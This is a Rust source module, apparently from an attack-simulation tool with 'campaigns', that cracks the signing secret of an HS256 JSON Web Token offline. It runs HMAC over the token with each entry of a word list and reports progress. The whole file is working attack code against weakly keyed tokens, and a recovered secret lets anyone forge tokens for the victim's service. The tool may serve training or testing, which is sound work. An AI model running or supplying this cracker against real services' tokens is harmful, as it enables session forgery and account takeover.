//! Guessing a secret at home: one token holds all that is needed to tell a right guess from a wrong one, and the victim's
//! server hears of none.

use serde::Serialize;

use super::super::Attacker;
use super::{jws, word_list};

/// Guesses between two looks up: other requests are answered, and the progress is noted.
const AT_A_TIME: u64 = 500;

/// How far the guessing is.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub(in super::super) struct Cracking {
    /// Words that were tried.
    pub(super) tried: u64,
    /// Words that there are.
    pub(super) of: u64,
    /// The word that it was, if one was.
    pub(super) found: Option<String>,
}

/// Tries every word against an HS256 token, and notes how far it is in the campaign.
pub(super) async fn crack(attacker: &Attacker, campaign: &str, access_token: &str) -> Cracking {
    let mut cracking = Cracking { tried: 0, of: word_list::len(), found: None };
    if let Some((message, signature)) = jws::take_apart(access_token) {
        for word in word_list::words() {
            cracking.tried += 1;
            if jws::hmac(word.as_bytes(), message.as_bytes()) == signature {
                cracking.found = Some(word);
                break;
            }
            if cracking.tried.is_multiple_of(AT_A_TIME) {
                attacker.campaigns().note_cracking(campaign, cracking.clone());
                tokio::task::yield_now().await;
            }
        }
    }
    attacker.campaigns().note_cracking(campaign, cracking.clone());
    cracking
}
